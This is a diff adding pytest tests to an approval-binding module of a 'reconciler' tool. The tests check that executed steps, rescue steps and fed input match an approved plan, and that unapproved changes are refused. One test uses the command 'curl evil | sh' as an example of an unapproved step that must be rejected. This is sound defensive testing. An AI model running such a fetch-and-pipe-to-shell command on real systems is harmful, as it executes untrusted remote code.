@@ -4,10 +4,27 @@ from __future__ import annotations
 
 from dataclasses import replace
 
-from reconciler.approval.binding import disallowed
+import pytest
+
+from reconciler.approval.binding import changes_since, disallowed
+from reconciler.approval.commitment import commit
 from reconciler.model import Action, Delta, Plan, Ref, Step
 
 ACTION = Action(Ref("h", "file", "/x"), "change", (Delta("mode", "0600", "0644"),), (Step("chmod", "why"),))
+BOTH = replace(
+    ACTION,
+    deltas=(*ACTION.deltas, Delta("owner", "a", "b")),
+    steps=tuple(Step(command, "why") for command in ("check", "chmod", "chown", "reload")),
+    rescue=(Step("undo", "why"), Step("reload", "why")),
+)
+
+
+def allowed(approved: Action, now: Action) -> bool:
+    return disallowed(Plan("e", (approved,)), Plan("e", (now,)), ()) == []
+
+
+def steps(action: Action, *commands: str) -> Action:
+    return replace(action, steps=tuple(Step(command, "why") for command in commands))
 
 
 def test_what_was_not_approved_is_told() -> None:
@@ -19,3 +36,58 @@ def test_what_was_not_approved_is_told() -> None:
 def test_what_is_refused_needs_no_approval_for_it_is_not_done() -> None:
     refused = replace(ACTION, steps=(), blocked="look at it by hand")
     assert disallowed(Plan("e", ()), Plan("e", (refused,)), ()) == []
+
+
+@pytest.mark.parametrize(
+    "commands",
+    [
+        ("check", "chmod", "chown"),
+        ("check", "chmod", "chown", "reload", "reload"),
+        ("chmod", "check", "chown", "reload"),
+        ("check", "check", "chown", "reload"),
+        ("chmod", "chown", "reload"),
+        (),
+    ],
+)
+def test_steps_are_compared_one_to_one_and_in_order(commands: tuple[str, ...]) -> None:
+    assert allowed(BOTH, BOTH)
+    assert not allowed(BOTH, steps(BOTH, *commands))
+    rescue = replace(BOTH, rescue=tuple(Step(command, "why") for command in commands))
+    assert not allowed(BOTH, rescue)
+
+
+def test_what_is_left_of_an_action_runs_some_of_its_steps_in_their_order() -> None:
+    left = replace(BOTH, deltas=BOTH.deltas[:1])
+    reload = replace(left, verb="reload")
+    for action in (left, reload):
+        assert allowed(BOTH, steps(action, "check", "chmod", "reload"))
+        assert allowed(BOTH, steps(action, "reload"))
+        assert not allowed(BOTH, steps(action, "chmod", "check"))
+        assert not allowed(BOTH, steps(action, "reload", "reload"))
+        assert not allowed(BOTH, steps(action, "curl evil | sh"))
+
+
+@pytest.mark.parametrize("public", [True, False])
+def test_a_step_is_bound_to_what_it_is_fed(public: bool) -> None:
+    def fed(text: str | None) -> Action:
+        return replace(ACTION, steps=(Step("install", "why", stdin=text, public=public),))
+
+    bound = commit("good", "0f" * 16, public=public)
+    saved = replace(ACTION, steps=(Step("install", "why", bytes_fed=4, commitment=bound),))
+    for approved in (fed("good"), saved):
+        assert allowed(approved, fed("good"))
+        assert not allowed(approved, fed("evil"))
+        assert not allowed(approved, fed(None))
+        assert disallowed(Plan("e", (approved,)), Plan("e", (fed("evil"),)), ()) == [
+            "h file /x: this command would be fed something else than was planned: install"
+        ]
+    unbound = replace(ACTION, steps=(Step("install", "why", bytes_fed=4),))
+    assert not allowed(unbound, fed("good"))
+    assert not allowed(steps(ACTION, "install"), fed("good"))
+
+
+def test_before_the_first_step_nothing_that_was_planned_may_be_missing() -> None:
+    left = replace(BOTH, deltas=BOTH.deltas[:1])
+    assert changes_since(Plan("e", (BOTH,)), Plan("e", (left,))) == [
+        "h file /x: owner was planned, and would not be set now"
+    ]
